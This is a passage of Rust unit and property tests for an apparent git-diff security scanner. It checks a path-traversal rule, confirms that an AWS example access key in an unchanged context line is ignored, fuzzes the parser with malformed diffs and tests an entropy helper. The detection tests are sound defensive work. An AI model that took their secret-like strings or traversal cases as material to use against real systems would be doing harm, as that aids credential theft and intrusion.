            let found = rules_of(&diff);
            assert_eq!(found, vec![("path-traversal".to_owned(), None)], "{path}");
        }
    }

    #[test]
    fn only_added_lines_are_judged() {
        let diff = "diff --git a/n.txt b/n.txt\n--- a/n.txt\n+++ b/n.txt\n@@ -1,2 +1,2 @@\n AKIAIOSFODNN7EXAMPLE\n-a\n+b\n";
        assert_eq!(rules_of(diff), vec![]);
    }

    proptest::proptest! {
        /// Whatever a client sends, the reader answers files or a typed error, and the rules
        /// judge any files it reads, without panicking.
        #[test]
        fn hostile_diffs_never_panic(text in "(diff --git a/x b/y\n|--- a/x\n|\\+\\+\\+ b/x\n|@@ -[0-9]{1,3},[0-9]{1,2} \\+[0-9]{1,3},[0-9]{1,2} @@\n|[ +\\-\\\\][^\n]{0,12}\n|rename from x\n|Binary files a and b differ\n|GIT binary patch\n|new file mode 100644\n){0,40}") {
            if let Ok(files) = parse(&text) {
                let _ = scan(&files, &ScanPolicy::default());
                for file in &files {
                    let _ = (file.new_text(), file.old_text(), file.path());
                }
            }
        }
    }

    #[test]
    fn entropy_is_shannons() {
        assert!((entropy("aaaa") - 0.0).abs() < f64::EPSILON);
        assert!((entropy("abcd") - 2.0).abs() < 1e-9);
    }
}
